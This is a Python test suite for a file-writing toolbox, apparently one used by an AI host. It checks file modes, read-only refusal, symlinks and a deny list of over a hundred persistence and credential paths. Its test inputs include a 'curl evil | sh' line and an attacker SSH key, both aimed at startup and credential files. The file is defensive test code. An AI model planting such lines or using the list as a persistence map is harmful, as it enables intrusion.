"""What every writer promises about the user's file (issue 19 §1, issue 25's writer items).

Each promise is checked through the real tool scripts, spawned as the host does, and as root (CI
runs as root: a read-only mark must stop a tool even where ``os.access`` would let it write). The
permission cases run a second time as an unprivileged user in a forked child (``os.setuid``).
"""
import csv
import json
import os
import stat
import sys

import pytest

from conftest import NOBODY, ROOT, as_nobody, assert_contract, fail, nobody_dir, ok

sys.path.insert(0, ROOT)
from xlakit import host as xla_host  # noqa: E402

def _ledger(path, rows=3):
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["日期", "客户", "金额"])
        for i in range(rows):
            w.writerow(["2024-09-%02d" % (i + 1), "客户%d" % i, 100 + i])


def _xlsx(path, rows=3):
    import openpyxl
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["日期", "客户", "金额"])
    for i in range(rows):
        ws.append(["2024-09-%02d" % (i + 1), "客户%d" % i, 100 + i])
    wb.save(path)


@pytest.fixture
def umask022():
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


# ---------------------------------------------------------------------------------------------
# Modes: a new file is 0666 & ~umask, an existing one keeps its mode, owner and group

def _writer_calls(tmp_path, home):
    src = tmp_path / "源表.csv"
    _ledger(src, rows=6)
    right = tmp_path / "右表.csv"
    _ledger(right, rows=4)
    ws = home / ".xla" / "workspace"
    return [
        ("write_text", {"path": str(tmp_path / "新.txt"), "text": "你好"}, tmp_path / "新.txt"),
        ("write_spreadsheet", {"path": str(tmp_path / "新.csv"), "rows": [["a"], [1]]}, tmp_path / "新.csv"),
        ("write_spreadsheet", {"path": str(tmp_path / "新.xlsx"), "rows": [["a"], [1]]}, tmp_path / "新.xlsx"),
        ("write_document", {"path": str(tmp_path / "新.docx"), "text": "# 标题\n\n正文"}, tmp_path / "新.docx"),
        ("draw_chart", {"type": "bar", "labels": ["一", "二"], "values": [1, 2], "file_name": "图"}, None),
        ("filter_table", {"path": str(src), "where": [{"column": "金额", "op": ">", "value": 101}],
                          "out_path": str(tmp_path / "筛.xlsx")}, tmp_path / "筛.xlsx"),
        ("pivot_table", {"path": str(src), "row": {"column": "客户"}, "col": {"column": "日期", "by": "month"},
                         "value": "金额", "out_path": str(tmp_path / "透.xlsx")}, tmp_path / "透.xlsx"),
        ("lookup_table", {"left_path": str(src), "right_path": str(right), "left_key": "客户",
                          "out_path": str(tmp_path / "查.xlsx")}, tmp_path / "查.xlsx"),
        ("dedupe_table", {"path": str(src), "keys": ["客户"], "out_path": str(tmp_path / "重.xlsx")},
         tmp_path / "重.xlsx"),
        ("clean_table", {"path": str(src), "out_path": str(tmp_path / "洗.xlsx")}, tmp_path / "洗.xlsx"),
    ], ws


def test_every_writer_creates_files_with_the_umask_mode(run, tmp_path, home, umask022):
    calls, ws = _writer_calls(tmp_path, home)
    for name, args, target in calls:
        data = ok(run(name, args))
        target = target or data.get("path") or data.get("file")
        assert target and os.path.isfile(str(target)), (name, data)
        mode = stat.S_IMODE(os.stat(str(target)).st_mode)
        assert mode == 0o644, "%s made %s with mode %o" % (name, target, mode)
    leftovers = [n for n in os.listdir(tmp_path) if n.startswith(".xla-")]
    assert not leftovers


def test_another_umask_is_followed(run, tmp_path):
    old = os.umask(0o027)
    try:
        target = tmp_path / "组内.txt"
        ok(run("write_text", {"path": str(target), "text": "x"}))
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o640


def test_an_existing_file_keeps_its_mode_owner_and_group(run, tmp_path):
    target = tmp_path / "台账.csv"
    _ledger(target)
    os.chmod(target, 0o640)
    os.chown(target, NOBODY, NOBODY)          # CI is root: root may give the new file the old owner
    ok(run("write_spreadsheet", {"path": str(target), "rows": [["2024-10-01", "新客户", 5]], "mode": "append"}))
    st = os.stat(target)
    assert stat.S_IMODE(st.st_mode) == 0o640 and (st.st_uid, st.st_gid) == (NOBODY, NOBODY)
    assert "新客户" in target.read_text(encoding="utf-8-sig")
    ok(run("write_text", {"path": str(target), "text": "a,b\n"}))
    st = os.stat(target)
    assert stat.S_IMODE(st.st_mode) == 0o640 and (st.st_uid, st.st_gid) == (NOBODY, NOBODY)


# ---------------------------------------------------------------------------------------------
# Read-only marks are refused, the file byte-identical

def _readonly_cases(tmp_path):
    csv_path = tmp_path / "只读台账.csv"
    _ledger(csv_path)
    xlsx_path = tmp_path / "只读台账.xlsx"
    _xlsx(xlsx_path)
    txt = tmp_path / "只读.txt"
    txt.write_text("原文\n", encoding="utf-8")
    docx = tmp_path / "只读.docx"
    return [
        (csv_path, "write_spreadsheet", {"path": str(csv_path), "rows": [["x", "y", 1]]}),
        (csv_path, "write_spreadsheet", {"path": str(csv_path), "rows": [["x", "y", 1]], "mode": "append"}),
        (xlsx_path, "write_spreadsheet", {"path": str(xlsx_path), "rows": [["x", "y", 1]], "mode": "append"}),
        (xlsx_path, "write_spreadsheet", {"path": str(xlsx_path), "rows": [["x", "y", 1]]}),
        (txt, "write_text", {"path": str(txt), "text": "新"}),
        (txt, "write_text", {"path": str(txt), "text": "新", "mode": "append"}),
        (docx, "write_document", {"path": str(docx), "text": "追加", "mode": "append"}),
    ]


def test_read_only_files_are_refused_by_every_writer_as_root(run, tmp_path):
    cases = _readonly_cases(tmp_path)
    ok(run("write_document", {"path": str(tmp_path / "只读.docx"), "text": "# 原文"}))
    for target, name, args in cases:
        os.chmod(target, 0o444)
        before = target.read_bytes()
        err = fail(run(name, args))
        assert "只读" in err and "chmod u+w" in err, (name, err)
        assert target.read_bytes() == before, name
        assert stat.S_IMODE(os.stat(target).st_mode) == 0o444
    assert not [n for n in os.listdir(tmp_path) if n.startswith(".xla-")]


def test_read_only_file_is_not_deleted(run, home):
    ws = home / ".xla" / "workspace"
    ws.mkdir(parents=True)
    keep = ws / "合同.docx"
    keep.write_bytes(b"PK\x03\x04 not really")
    os.chmod(keep, 0o444)
    err = fail(run("delete_file", {"path": "合同.docx"}))
    assert "只读" in err and keep.exists()
    os.chmod(keep, 0o644)
    ok(run("delete_file", {"path": "合同.docx"}))
    assert not keep.exists()


def test_read_only_files_are_refused_for_an_unprivileged_user(tmp_path):
    folder = nobody_dir()
    home = folder / "home"
    home.mkdir()
    target = folder / "台账.csv"
    _ledger(target)
    for p in (folder, home, target):
        os.chown(p, NOBODY, NOBODY)
    os.chmod(folder, 0o755)
    os.chmod(target, 0o444)
    before = target.read_bytes()

    def child():
        res = xla_host.run_tool("write_spreadsheet", {"path": str(target), "rows": [["x", "y", 1]],
                                                       "mode": "append"}, home=str(home))
        res2 = xla_host.run_tool("write_text", {"path": str(folder / "新.txt"), "text": "ok"}, home=str(home))
        return {"stdout": res.stdout, "code": res.exit_code, "uid": os.getuid(), "ok2": res2.stdout}

    got = as_nobody(child)
    assert "child_error" not in got, got
    assert got["uid"] == NOBODY
    data = json.loads(got["stdout"])
    assert not data["ok"] and "只读" in data["error"] and got["code"] != 0
    assert target.read_bytes() == before
    assert json.loads(got["ok2"])["ok"]
    st = os.stat(folder / "新.txt")
    assert st.st_uid == NOBODY and stat.S_IMODE(st.st_mode) & 0o044 == 0o044


# ---------------------------------------------------------------------------------------------
# Links: the target is written, the link stays; hard links are rewritten in place

def test_append_through_a_symlink_writes_the_target_and_keeps_the_link(run, home):
    shared = home / "共享"
    shared.mkdir()
    real = shared / "台账.csv"
    _ledger(real)
    link = home / "桌面台账.csv"
    link.symlink_to(real)
    data = ok(run("write_spreadsheet", {"path": "~/桌面台账.csv", "rows": [["2024-10-01", "链接客户", 7]],
                                         "mode": "append"}))
    assert os.path.islink(link) and os.readlink(link) == str(real)
    assert "链接客户" in real.read_text(encoding="utf-8-sig")
    assert data["backup"] and os.path.exists(data["backup"])
    ok(run("write_text", {"path": "~/桌面台账.csv", "text": "x,y\n", "mode": "append"}))
    assert os.path.islink(link) and real.read_text(encoding="utf-8-sig").endswith("x,y\n")


def test_symlink_into_a_denied_place_is_refused(run, home):
    (home / ".ssh").mkdir()
    (home / "无害.txt").symlink_to(home / ".ssh" / "authorized_keys")
    err = fail(run("write_text", {"path": "~/无害.txt", "text": "ssh-rsa AAAA attacker"}))
    assert "不允许写入" in err
    assert not (home / ".ssh" / "authorized_keys").exists()


def test_hard_linked_file_is_rewritten_in_place(run, tmp_path):
    a = tmp_path / "a.txt"
    a.write_text("旧内容\n", encoding="utf-8")
    b = tmp_path / "b.txt"
    os.link(a, b)
    inode = os.stat(a).st_ino
    data = ok(run("write_text", {"path": str(a), "text": "新内容\n"}))
    assert os.stat(a).st_ino == inode and os.stat(a).st_nlink == 2
    assert b.read_text(encoding="utf-8") == "新内容\n"
    assert data["backup"] and open(data["backup"], encoding="utf-8").read() == "旧内容\n"


# ---------------------------------------------------------------------------------------------
# OS errors are Chinese, bad paths are the caller's error (exit 2)

def test_over_long_name_is_a_chinese_input_error(run, tmp_path):
    res = run("write_text", {"path": str(tmp_path / ("长" * 300 + ".txt")), "text": "x"})
    err = fail(res)
    assert res.exit_code == 2 and "太长" in err and "File name" not in err
    res = run("write_spreadsheet", {"path": str(tmp_path / ("表" * 300 + ".csv")), "rows": [["a"]]})
    assert res.exit_code == 2 and "太长" in fail(res)


def test_long_but_valid_name_still_gets_a_backup(run, tmp_path):
    target = tmp_path / ("报" * 80 + ".txt")           # 240 bytes: fits, but stamp + key + name would not
    target.write_text("旧", encoding="utf-8")
    data = ok(run("write_text", {"path": str(target), "text": "新"}))
    assert data["backup"] and os.path.exists(data["backup"]) and len(os.path.basename(data["backup"]).encode()) < 200


def test_path_under_a_file_is_an_input_error(run, tmp_path):
    blocker = tmp_path / "文件"
    blocker.write_text("x", encoding="utf-8")
    res = run("write_text", {"path": str(blocker / "里面.txt"), "text": "x"})
    err = fail(res)
    assert res.exit_code == 2 and "不是文件夹" in err and "Not a directory" not in err


# ---------------------------------------------------------------------------------------------
# Special files: never read, never replaced

def test_fifo_and_devices_are_refused_by_readers_and_writers(run, tmp_path):
    fifo = tmp_path / "管道.csv"
    os.mkfifo(fifo)
    for name in ("read_spreadsheet", "read_document", "read_text_file", "probe_table"):
        res = run(name, {"path": str(fifo)}, timeout=20)
        assert not res.timed_out, name
        assert "命名管道" in fail(res), name
    assert "设备文件" in fail(run("read_text_file", {"path": "/dev/zero"}))
    err = fail(run("write_text", {"path": str(fifo), "text": "x"}))
    assert "命名管道" in err and stat.S_ISFIFO(os.lstat(fifo).st_mode)


# ---------------------------------------------------------------------------------------------
# Odd characters: every answer is written

def test_lone_surrogates_become_replacement_characters(run, tmp_path, home):
    target = tmp_path / "半个字符.txt"
    res = xla_host.run_tool("write_text", raw_input='{"path": "%s", "text": "a\\ud800b"}' % target, home=str(home))
    data = ok(res)
    assert target.read_text(encoding="utf-8") == "a\ufffdb" and data["chars_written"] == 3
    # the host itself gets a lone surrogate in its arguments: no traceback, one answer
    ok(run("write_text", {"path": str(tmp_path / "二.txt"), "text": "x\udc00y"}))
    assert (tmp_path / "二.txt").read_text(encoding="utf-8") == "x\ufffdy"


def test_control_characters_in_a_document_leave_nothing_half_done(run, tmp_path):
    target = tmp_path / "报告.docx"
    data = ok(run("write_document", {"path": str(target), "text": "# 标题\n\n正文\x00\x01结束"}))
    assert data["backup"] is None and any("控制字符" in w for w in data["warnings"])
    text = ok(run("read_document", {"path": str(target)}))["text"]
    assert "正文结束" in text


# ---------------------------------------------------------------------------------------------
# The deny list by rule (issue 25 E7, D8, D9) and derived tables never overwrite their source (D13)

PERSISTENCE = [
    # shells and logins
    ".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".bash_aliases", ".bash_completion",
    ".bashrc.d/evil.sh", ".local/share/bash-completion/completions/ls", ".zshrc", ".zshenv", ".zprofile",
    ".zlogin", ".oh-my-zsh/custom/evil.zsh", ".config/fish/config.fish", ".config/fish/conf.d/evil.fish",
    ".cshrc", ".tcshrc", ".kshrc", ".inputrc", ".hushlogin", ".pam_environment", ".config/environment.d/a.conf",
    # desktop sessions and autostart
    ".xprofile", ".xinitrc", ".xsession", ".xsessionrc", ".Xresources", ".Xdefaults", ".config/autostart/a.desktop",
    ".config/autostart-scripts/a.sh", ".config/plasma-workspace/env/a.sh", ".config/plasma-workspace/shutdown/a.sh",
    ".kde/Autostart/a.sh", ".config/lxsession/LXDE/autostart", ".config/openbox/autostart",
    ".config/i3/config", ".config/sway/config", ".config/hypr/hyprland.conf",
    # user services and timers
    ".config/systemd/user/evil.service", ".local/share/systemd/user/evil.service",
    ".config/systemd/user/default.target.wants/evil.service", ".config/upstart/evil.conf",
    # editors and interpreters that run code at start
    ".vimrc", ".vim/plugin/evil.vim", ".config/nvim/init.vim", ".config/nvim/init.lua", ".exrc", ".emacs",
    ".emacs.d/init.el", ".gdbinit", ".config/gdb/gdbinit", ".lldbinit", ".ipython/profile_default/startup/a.py",
    ".pythonrc", ".pythonstartup", ".Rprofile", ".irbrc", ".pryrc", ".perldl", ".psqlrc", ".sqliterc",
    ".myclirc", ".nanorc", ".lesskey", ".tmux.conf", ".screenrc", ".wgetrc", ".curlrc", ".mailcap",
    ".config/mimeapps.list", ".local/share/applications/evil.desktop",
    # package managers and version control that run or fetch code
    ".gitconfig", ".config/git/config", ".hgrc", ".npmrc", ".yarnrc", ".pypirc", ".pip/pip.conf",
    ".config/pip/pip.conf", ".condarc", ".cargo/bin/ls", ".cargo/config.toml", ".rustup/settings.toml",
    ".gem/credentials", ".m2/settings.xml", ".gradle/init.d/evil.gradle", ".docker/config.json",
    # credentials
    ".ssh/authorized_keys", ".ssh/config", ".ssh/rc", ".gnupg/gpg.conf", ".aws/credentials", ".kube/config",
    ".netrc", ".config/gh/hosts.yml", ".azure/config",
    # PATH-like folders and libraries
    "bin/ls", "bin/sudo", ".local/bin/ls", ".local/lib/python3.11/site-packages/evil.pth",
    # macOS
    "Library/LaunchAgents/evil.plist", "Library/Application Support/evil/a.sh", "Library/Preferences/a.plist",
    "Library/Python/3.11/lib/python/site-packages/evil.pth",
    # Windows
    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/evil.txt",
    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/evil.txt", "AppData/Local/Microsoft/WindowsApps/a.txt",
    "AppData/Roaming/Python/Python311/site-packages/evil.pth",
    "Documents/WindowsPowerShell/Microsoft.PowerShell_profile.txt", "Documents/PowerShell/profile.txt",
    # runnable files anywhere outside the workspace
    "Desktop/打开我.lnk", "Desktop/网址.url", "Desktop/程序.desktop", "Desktop/运行.bat", "Desktop/运行.cmd",
    "Desktop/脚本.ps1", "Desktop/脚本.vbs", "Desktop/屏保.scr", "Desktop/a.hta", "Desktop/a.command",
    "Downloads/autorun.inf", "Documents/desktop.ini",
    # the toolbox's own data
    ".xla/backup/x", ".xla/trash/x", ".xla/settings.json", ".xla/logs/x", ".xla-tools/tools/evil.py",
]
SYSTEM = ["/etc/cron.d/evil", "/etc/profile.d/evil.sh", "/usr/local/bin/evil", "/run/user/0/systemd/user/a.service",
          "/var/spool/cron/crontabs/root", "/opt/evil", "/lib/systemd/system/evil.service"]


def test_more_than_a_hundred_persistence_places_are_refused(home, monkeypatch):
    monkeypatch.setenv("HOME", str(home))
    from xlakit.fs import paths
    assert len(PERSISTENCE) + len(SYSTEM) >= 100
    allowed = [rel for rel in PERSISTENCE if paths.deny_reason(os.path.join(str(home), rel)) is None]
    allowed += [p for p in SYSTEM if paths.deny_reason(p) is None]
    assert not allowed, allowed
    # ordinary places stay writable
    for rel in ("Desktop/报表.xlsx", "文档/周报.docx", "下载/a.csv", ".xla/workspace/a.txt",
                ".xla/workspace/工具/运行.bat", "项目/说明.md"):
        assert paths.deny_reason(os.path.join(str(home), rel)) is None, rel


SAMPLE = ["bin/ls", ".bash_completion", ".local/share/systemd/user/a.service", ".config/nvim/init.lua",
          ".ipython/profile_default/startup/a.py", "Desktop/运行.bat", "Library/LaunchAgents/a.plist",
          "AppData/Roaming/a.txt", ".xla/backup/x"]


@pytest.mark.parametrize("rel", SAMPLE)
def test_every_writer_refuses_the_sampled_places(run, home, tmp_path, rel):
    src = tmp_path / "源表.csv"
    _ledger(src)
    target = os.path.join(str(home), rel)
    calls = [("write_text", {"path": target, "text": "x"}),
             ("write_spreadsheet", {"path": target, "rows": [["a"]]}),
             ("write_document", {"path": target + ".docx", "text": "x"}),
             ("filter_table", {"path": str(src), "where": [{"column": "金额", "op": ">", "value": 0}],
                               "out_path": target + ".xlsx"}),
             ("dedupe_table", {"path": str(src), "keys": ["客户"], "out_path": target + ".csv"}),
             ("clean_table", {"path": str(src), "out_path": target + ".xlsx"})]
    if rel.endswith(".bat"):            # a runnable suffix: a writer that adds its own suffix makes another file
        calls = calls[:2]
    for name, args in calls:
        err = fail(run(name, args))
        assert "不允许写入" in err, (name, err)
    for written in (target, target + ".docx", target + ".xlsx", target + ".csv"):
        assert not os.path.exists(written)


def test_tilde_with_doubled_slash_stays_in_the_home(run, home):
    err = fail(run("write_text", {"path": "~//.bashrc", "text": "curl evil | sh"}))
    assert "不允许写入" in err
    assert not os.path.exists("/.bashrc") and not (home / ".bashrc").exists()
    ok(run("write_text", {"path": "~//笔记.txt", "text": "x"}))
    assert (home / "笔记.txt").exists() and not os.path.exists("/笔记.txt")


def test_derived_table_never_overwrites_its_source_through_a_linked_folder(run, tmp_path):
    data_dir = tmp_path / "数据"
    data_dir.mkdir()
    src = data_dir / "台账.csv"
    _ledger(src)
    (tmp_path / "链接").symlink_to(data_dir)
    before = src.read_bytes()
    for name, args in (("filter_table", {"path": str(src), "where": [{"column": "金额", "op": ">", "value": 0}]}),
                       ("dedupe_table", {"path": str(src), "keys": ["客户"]})):
        err = fail(run(name, dict(args, out_path=str(tmp_path / "链接" / "台账.csv"))))
        assert "源文件相同" in err, err
    hard = tmp_path / "硬链接.csv"
    os.link(src, hard)
    fail(run("clean_table", {"path": str(src), "out_path": str(hard)}))
    assert src.read_bytes() == before


def test_delete_accepts_the_absolute_workspace_paths_other_tools_return(run, home):
    made = ok(run("write_text", {"path": "报告/周报.txt", "text": "x"}))
    gone = ok(run("delete_file", {"path": made["path"]}))
    assert gone["deleted"] == "周报.txt" and not os.path.exists(made["path"])
    ok(run("write_text", {"path": "周报2.txt", "text": "x"}))
    ok(run("delete_file", {"path": "~/.xla/workspace/周报2.txt"}))
    outside = home / "外面.txt"
    outside.write_text("x", encoding="utf-8")
    for raw in (str(outside), str(home / ".xla" / "workspace" / ".." / ".." / "外面.txt"), "~/外面.txt"):
        res = run("delete_file", {"path": raw})
        assert_contract(res)
        assert not json.loads(res.stdout)["ok"] and outside.exists(), raw


def test_concurrent_appends_all_land(home, tmp_path):
    """Eight appends to one text file at once (through the host runner, two at a time as the host
    allows, and the rest waiting): every line is there exactly once."""
    import concurrent.futures
    target = tmp_path / "日志.txt"
    target.write_text("开始\n", encoding="utf-8")

    def one(i):
        return xla_host.run_tool("write_text", {"path": str(target), "text": "第%d行\n" % i, "mode": "append"},
                                 home=str(home), max_parallel=8)
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        results = list(pool.map(one, range(8)))
    for res in results:
        ok(res)
    lines = target.read_text(encoding="utf-8").splitlines()
    assert sorted(lines[1:]) == sorted("第%d行" % i for i in range(8)) and lines[0] == "开始"


def test_concurrent_document_appends_all_land(home, tmp_path):
    import concurrent.futures
    target = tmp_path / "纪要.docx"
    ok(xla_host.run_tool("write_document", {"path": str(target), "text": "# 纪要"}, home=str(home)))

    def one(i):
        return xla_host.run_tool("write_document", {"path": str(target), "text": "第%d条意见" % i, "mode": "append"},
                                 home=str(home), max_parallel=6)
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        results = list(pool.map(one, range(6)))
    for res in results:
        ok(res)
    text = ok(xla_host.run_tool("read_document", {"path": str(target)}, home=str(home)))["text"]
    assert all(text.count("第%d条意见" % i) == 1 for i in range(6)), text
